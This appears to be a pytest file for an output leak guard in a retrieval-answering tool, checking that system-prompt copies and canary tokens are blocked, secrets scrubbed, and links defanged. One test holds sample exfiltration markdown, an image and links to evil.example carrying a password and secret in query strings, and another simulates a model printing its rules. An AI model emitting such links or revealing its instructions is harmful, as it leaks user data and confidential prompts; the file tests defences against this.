"""The output leak guard against cairn's real prompt text."""

from __future__ import annotations

import pytest

from cairn.answer.base import Draft
from cairn.answer.prompt import PromptParts
from cairn.guard.leaks import REFUSAL, Canary, OutputLeakGuard, VerbatimOverlap, instruction_texts
from cairn.stages import OutputGuard
from cairn.types import Chunk, Citation, Hit

CANARY = Canary.generate()
PARTS = PromptParts().replace(system_role=f"{PromptParts().system_role} {CANARY.instruction()}")


def _hit(text: str) -> Hit:
    chunk = Chunk(
        id="c1", doc_id="d1", ordinal=0, text=text, section=("Ops",), anchor=None,
        start=0, end=len(text), token_count=len(text.split()), hash="h", source="ops.md",
    )  # fmt: skip
    return Hit(chunk=chunk, score=1.0)


def _draft(text: str) -> Draft:
    return Draft(text=text, citations=(), abstained=False)


@pytest.fixture
def guard() -> OutputLeakGuard:
    return OutputLeakGuard(parts=PARTS, canary=CANARY, allow_hosts=["docs.example.com"])


def test_is_an_output_guard(guard: OutputLeakGuard) -> None:
    checker: OutputGuard = guard
    assert (
        checker.check(_draft("Backups run nightly. [1]"), [_hit("Backups run nightly.")]).status
        == "pass"
    )


def test_instruction_texts_cover_the_real_prompt() -> None:
    texts = instruction_texts(PARTS)
    assert texts[0] == PARTS.system_prompt()
    assert any("A fact stated in passage two." in t for t in texts[1:])
    assert PARTS.data_rules in texts


def test_copied_prompt_example_is_blocked(guard: OutputLeakGuard) -> None:
    hits = [_hit("The service keeps sessions in Redis; see the runbook.")]
    review = guard.review(_draft("A fact stated in passage two. [1]"), hits)
    assert review.verdict.blocked
    assert review.verdict.reason == "output_leak:instructions"
    assert review.draft.text == REFUSAL
    assert review.draft.abstained and review.draft.citations == ()
    assert "passage" not in review.verdict.refusal  # the refusal reveals nothing


def test_example_sentence_quoted_from_a_document_passes(guard: OutputLeakGuard) -> None:
    hits = [_hit("Style guide: a fact stated in passage two, so the reader can check it.")]
    verdict = guard.check(_draft("A fact stated in passage two. [1]"), hits)
    assert verdict.status == "pass"


def test_system_prompt_printed_back_is_blocked(guard: OutputLeakGuard) -> None:
    # a model asked to print its instructions, paraphrasing the start and copying the rest
    leaked = "Sure! My rules: " + PARTS.data_rules.replace("untrusted", "UNTRUSTED")
    assert guard.check(_draft(leaked), []).blocked


def test_canary_blocks_even_when_spaced_out(guard: OutputLeakGuard) -> None:
    spaced = " ".join(CANARY.token.upper())
    for text in (f"My reference is {CANARY.token}.", f"ref: {spaced}"):
        verdict = guard.check(_draft(text), [])
        assert verdict.blocked and verdict.reason == "output_leak:canary"


def test_ordinary_answers_pass(guard: OutputLeakGuard) -> None:
    answers = [
        "Restarting the service clears the cache. [1]",
        "The passages say backups run nightly at 02:00 and are kept for 30 days. [1][2]",
        "Use `cairn ingest docs/` to index a folder; it skips unchanged files. [1]",
        "The passages do not contain the answer to this question.",  # abstaining in its words
    ]
    for answer in answers:
        assert guard.check(_draft(answer), []).status == "pass", answer


def test_secrets_are_scrubbed_not_blocked(guard: OutputLeakGuard) -> None:
    key = "sk-proj-" + "a1B2c3D4" * 4
    text = f"Set OPENAI_API_KEY={key} and connect to postgres://app:s3cretpw@db.internal/app. [1]"
    review = guard.review(_draft(text), [])
    assert review.verdict.status == "flagged"  # let through, rewritten
    assert review.verdict.draft == review.draft
    assert review.verdict.reason == "sanitised:secret"
    assert key not in review.draft.text and "s3cretpw" not in review.draft.text
    assert "[SECRET:openai_key]" in review.draft.text
    assert set(review.findings) == {"secret:openai_key", "secret:url_password"}


def test_configured_key_is_scrubbed() -> None:
    guard = OutputLeakGuard(known_secrets=["deploy-token-77f1e0"])
    review = guard.review(_draft("the token is deploy-token-77f1e0"), [])
    assert review.draft.text == "the token is [SECRET:configured_key]"


def test_exfiltration_image_and_links_neutralised(guard: OutputLeakGuard) -> None:
    text = (
        "Done. ![status](https://evil.example/pixel.png?q=user+password+hunter2) "
        "See [the docs](https://docs.example.com/guide) or [this](http://evil.example/x?d=1) "
        "and https://evil.example/collect?d=secret."
    )
    review = guard.review(_draft(text), [])
    out = review.draft.text
    assert review.verdict.status == "flagged" and review.verdict.reason == "sanitised:link"
    assert "hunter2" not in out and "d=secret" not in out and "d=1" not in out
    assert "evil.example" not in out  # no fetchable or clickable host left
    assert "evil[.]example" in out  # but the host is shown
    assert "[the docs](https://docs.example.com/guide)" in out  # allow-listed link kept


def test_citations_kept_when_sanitised(guard: OutputLeakGuard) -> None:
    citation = Citation.__new__(Citation)
    draft = Draft(text="see https://evil.example/x", citations=(citation,), abstained=False)
    assert guard.review(draft, []).draft.citations == (citation,)


def test_verbatim_overlap_threshold() -> None:
    overlap = VerbatimOverlap(["one two three four five six seven eight nine ten"], shingle=8)
    assert overlap.copied("x one two three four five six seven y") == []  # 7 words
    assert overlap.copied("x one two three four five six seven eight y") != []


def test_prompt_examples_make_no_claim_a_model_could_copy_as_an_answer() -> None:
    """A model copying an example (as one did: "The cache is cleared on restart.") must say
    nothing about the world: each quoted example is a marker or talks about passages."""
    import re

    examples = instruction_texts(PromptParts())[5:]
    assert examples
    for example in examples:
        bare = re.sub(r"\[\d+\]", "", example).strip()
        assert not bare or "passage" in bare.lower(), example
